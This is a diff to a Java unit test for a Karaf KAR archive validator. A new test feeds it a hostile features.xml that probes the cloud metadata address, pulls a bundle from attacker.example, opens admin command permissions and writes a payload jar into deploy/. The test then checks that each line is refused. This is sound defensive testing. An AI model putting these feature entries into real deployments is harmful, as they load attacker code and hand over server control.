@@ -51,8 +51,9 @@ public class KarArchiveTest {
 
     @Test
     public void aBundleWithoutAPluginCapabilityDeclaresNone() throws IOException {
-        byte[] kar = new Kars().entry("repository/x/features.xml", Kars.FEATURES)
-                .entry("repository/x/lib.jar", Kars.bundle("com.example.lib", null, null)).bytes();
+        byte[] kar = new Kars().entry("repository/x/features.xml", Kars.FEATURES.replace("org.rapport.examples/referrals",
+                "com.example/lib")).entry("repository/com/example/lib/1.0.0/lib-1.0.0.jar",
+                Kars.bundle("com.example.lib", null, null)).bytes();
 
         KarBundle bundle = KarArchive.read(file(kar), LIMITS).bundles().get(0);
         assertNull(bundle.plugin());
@@ -109,6 +110,48 @@ public class KarArchiveTest {
         String badHeader = refusal(new Kars().entry("repository/x/features.xml", Kars.FEATURES)
                 .entry("repository/x/bad.jar", Kars.bundle("com.example.bad", "org.rapport.plugin; name=\"open", null)).bytes());
         assertTrue(badHeader, badHeader.contains("the manifest of repository/x/bad.jar cannot be read"));
+    }
+
+    @Test
+    public void aFeaturesRepositoryThatWouldFetchWriteOrReconfigureTheServerIsRefusedAtItsLines() throws IOException {
+        String hostile = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <features name="evil-1.0.0" xmlns="http://karaf.apache.org/xmlns/features/v1.6.0">
+                    <repository>http://169.254.169.254/latest/features.xml</repository>
+                    <feature name="evil" version="1.0.0" install="auto">
+                        <feature>webconsole</feature>
+                        <feature>rapport-loyalty</feature>
+                        <feature>evil-own</feature>
+                        <bundle>mvn:org.rapport.examples/referrals/1.0.0</bundle>
+                        <bundle>http://attacker.example/payload.jar</bundle>
+                        <bundle>mvn:com.example/remote/1.0.0</bundle>
+                        <config name="org.apache.karaf.command.acl.admin">* = agent</config>
+                        <bundle>mvn:com.example/evil-bundle/1.0.0</bundle>
+                        <config name="com.example.evil.settings">bonus = 5</config>
+                        <configfile finalname="deploy/payload.jar">mvn:com.example/payload/1.0.0</configfile>
+                        <conditional><condition>rapport-sales</condition>
+                            <library>mvn:com.example/lib/1.0.0</library>
+                        </conditional>
+                    </feature>
+                    <feature name="evil-own" version="1.0.0"/>
+                </features>
+                """;
+        String message = refusal(Kars.referrals().entry("repository/com/example/evil/1.0.0/evil-1.0.0-features.xml", hostile)
+                .entry("repository/com/example/evil-bundle/1.0.0/evil-bundle-1.0.0.jar",
+                        Kars.bundle("com.example.evil", null, null)).bytes());
+
+        String file = "repository/com/example/evil/1.0.0/evil-1.0.0-features.xml:";
+        for (String refused : List.of(file + "3: names the features repository http://169.254.169.254/latest/features.xml",
+                file + "5: depends on the feature webconsole", file + "9: the bundle http://attacker.example/payload.jar is "
+                        + "not in the KAR", file + "10: the bundle mvn:com.example/remote/1.0.0 is not in the KAR",
+                file + "11: sets the configuration org.apache.karaf.command.acl.admin",
+                file + "14: writes the file deploy/payload.jar", file + "16: the library mvn:com.example/lib/1.0.0")) {
+            assertTrue(refused + " in " + message, message.contains(refused));
+        }
+        for (String allowed : List.of("rapport-loyalty", "evil-own", "referrals/1.0.0 ", "evil-bundle", "evil.settings")) {
+            assertTrue(allowed + " in " + message, !message.contains(allowed));
+        }
+        assertEquals("nothing else refused", 7, message.split(java.util.regex.Pattern.quote(file), -1).length - 1);
     }
 
     @Test
